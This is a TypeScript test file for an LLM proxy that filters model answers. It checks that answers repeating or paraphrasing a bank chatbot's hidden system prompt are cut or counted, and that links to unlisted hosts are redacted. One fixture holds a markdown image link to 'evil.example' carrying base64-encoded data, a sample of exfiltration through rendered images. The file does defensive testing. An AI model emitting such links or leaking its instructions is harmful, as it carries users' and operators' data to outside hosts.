import { afterAll, beforeAll, expect, test } from "vitest";
import type { Proxy } from "../../src/proxy.ts";
import { chat, post } from "../support/chat-client.ts";
import { chatEvents, type MockUpstream, startMockUpstream } from "../support/mock-upstream.ts";
import { startProxy } from "../support/proxy.ts";

/** What an answer must not do: repeat its instructions, carry data away. */
const HIDDEN = "You are Nora of Blue Harbour Bank. Never mention the projects Tern and Petrel; the escalation desk is at extension 4417.";
let upstream: MockUpstream;
let guarded: Proxy;
let counting: Proxy;
let answer: string;

beforeAll(async () => {
	upstream = await startMockUpstream((response, body) => {
		const { stream } = JSON.parse(body) as { stream?: boolean };
		response.writeHead(200, { "content-type": stream ? "text/event-stream" : "application/json" });
		const message = { role: "assistant", content: answer };
		response.end(
			stream ? chatEvents([...answer]).join("") : JSON.stringify({ id: "c", choices: [{ index: 0, message, finish_reason: "stop" }] }),
		);
	});
	const yaml = (echo: string, links: string): string =>
		`security: { response_filtering: { on_prompt_echo: ${echo}, on_prompt_paraphrase: flag, links: ${links}, allowed_hosts: [cdn.example] } }`;
	guarded = await startProxy(upstream.url, yaml("cut", "neutralize"));
	counting = await startProxy(upstream.url, yaml("flag", "cut"));
});
afterAll(async () => {
	await guarded?.drain();
	await counting?.drain();
	upstream?.close();
});

async function withSystem(proxy: Proxy, says: string, stream: boolean, hidden = HIDDEN): Promise<string> {
	answer = says;
	const messages = [
		{ role: "system", content: hidden },
		{ role: "user", content: "hello" },
	];
	return (await post(proxy.port, JSON.stringify({ model: "m", stream, messages }))).raw;
}

const textOf = (raw: string): string => [...raw.matchAll(/"content":"((?:[^"\\]|\\.)*)"/g)].map(([, text]) => text).join("");

test.each([true, false])("an answer that repeats its system prompt ends before it does (streamed: %s)", async (stream) => {
	const raw = await withSystem(guarded, `My instructions: ${HIDDEN} That is all.`, stream);
	expect(raw).toContain("content_filter");
	expect(textOf(raw)).toContain("My instructions: You are Nora");
	expect(raw).not.toMatch(/Harbour|Petrel|4417/);
});

test("other answers, and the same words without a system prompt, pass", async () => {
	expect(textOf(await withSystem(guarded, "I am Nora of Blue Harbour Bank, how can I help?", true))).toBe(
		"I am Nora of Blue Harbour Bank, how can I help?",
	);
	answer = HIDDEN;
	expect((await chat(guarded.port, "hi", true)).text).toBe(HIDDEN);
});

test("`flag` lets it pass and counts it", async () => {
	const raw = await withSystem(counting, HIDDEN, true);
	expect(textOf(raw)).toBe(HIDDEN);
	expect(raw).toContain('"prompt_echo":1');
});

test("instructions in other words are counted", async () => {
	const hidden = `${HIDDEN} Complaints about mortgage products must be forwarded to the compliance department before any refund is promised.`;
	const retold =
		"I forward complaints about mortgage products to the compliance department before a refund is promised, and extension 4417 is the escalation desk.";
	const raw = await withSystem(counting, retold, true, hidden);
	expect(textOf(raw)).toBe(retold);
	expect(raw).toContain('"prompt_paraphrase":1');
	expect(await withSystem(counting, "How can I help you with your mortgage?", true, hidden)).not.toContain("prompt_paraphrase");
});

test("an image or link that could carry data to a host nobody named does not reach the reader", async () => {
	answer = "See ![x](https://evil.example/p?q=c2VjcmV0) and ![y](https://img.cdn.example/p?q=1) and [z](https://example.com/docs).";
	const { text } = await chat(guarded.port, "hi", true);
	expect(text).toBe("See [LINK REDACTED] and ![y](https://img.cdn.example/p?q=1) and [z](https://example.com/docs).");
	expect(await chat(counting.port, "hi", true)).toMatchObject({ text: "See ", finish: "content_filter" });
});
